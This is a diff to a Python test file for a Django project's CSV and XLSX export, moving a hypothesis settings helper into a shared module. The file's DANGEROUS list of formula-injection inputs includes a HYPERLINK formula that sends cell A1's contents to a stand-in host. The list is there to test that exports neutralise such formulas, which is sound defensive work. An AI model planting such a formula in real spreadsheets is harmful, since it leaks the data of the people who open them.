@@ -10,7 +10,7 @@ import csv
 import io
 
 from django.urls import reverse
-from hypothesis import HealthCheck, example, given, settings
+from hypothesis import example, given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
@@ -18,6 +18,7 @@ from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from kinerja.core.spreadsheet import FORMULA_START, csv_cell, xlsx_row
 from kinerja.insight import reports
 from tests.citizen.conftest import add_answers, layanan  # noqa: F401 - the fixture
+from tests.properties import bounded
 
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(A1)",
              "\t=1+1", "\r=1+1", "=1+1\x01"]  # fmt: skip
@@ -26,13 +27,6 @@ DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@
 def as_stored(text: str) -> str:
     """What an XLSX cell gives back: no control characters, XML's line ends."""
     return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
-
-
-def bounded(examples: int):
-    return settings(
-        max_examples=examples, deadline=None, derandomize=True, database=None,
-        suppress_health_check=[HealthCheck.function_scoped_fixture],
-    )  # fmt: skip
 
 
 @bounded(100)
